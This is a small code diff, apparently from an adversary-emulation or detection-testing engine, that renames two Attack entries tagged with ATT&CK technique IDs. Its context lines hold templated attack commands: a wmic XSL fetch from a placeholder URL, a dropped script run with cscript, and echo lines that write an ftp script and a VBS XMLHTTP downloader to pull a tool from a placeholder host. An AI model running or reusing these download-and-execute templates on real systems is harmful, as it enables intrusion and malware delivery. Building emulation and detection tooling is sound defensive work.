@@ -28,7 +28,7 @@ xp: del {drop}\{tool}.exe
 or
 xp: tasklist
 """),
-    Attack("powershell cradle", ENGINE, ("T1059.001", "T1027", "T1105"), "an encoded or spelled-out download cradle", r"""
+    Attack("powershell-cradle", ENGINE, ("T1059.001", "T1027", "T1105"), "an encoded or spelled-out download cradle", r"""
 nothing
 or
 xp: powershell -c "$PSVersionTable.PSVersion"
@@ -94,7 +94,7 @@ xp: cscript //e:jscript {drop}\{tool}.txt
 or
 xp: wmic os get /format:"{url}.xsl"
 """),
-    Attack("ftp and others", ENGINE, ("T1105", "T1059.003", "T1564"), "a script for ftp or VBS written line by line", r"""
+    Attack("ftp-script", ENGINE, ("T1105", "T1059.003", "T1564"), "a script for ftp or VBS written line by line", r"""
 xp: echo open {wan}>{drop}\{rnd}.txt&echo user {letter} {rnd}>>{drop}\{rnd}.txt&echo get {tool}.exe>>{drop}\{rnd}.txt
 or
 xp: echo Set x=CreateObject("Microsoft.XMLHTTP"):x.Open "GET","{url}",0:x.Send()>{drop}\{rnd}.vbs
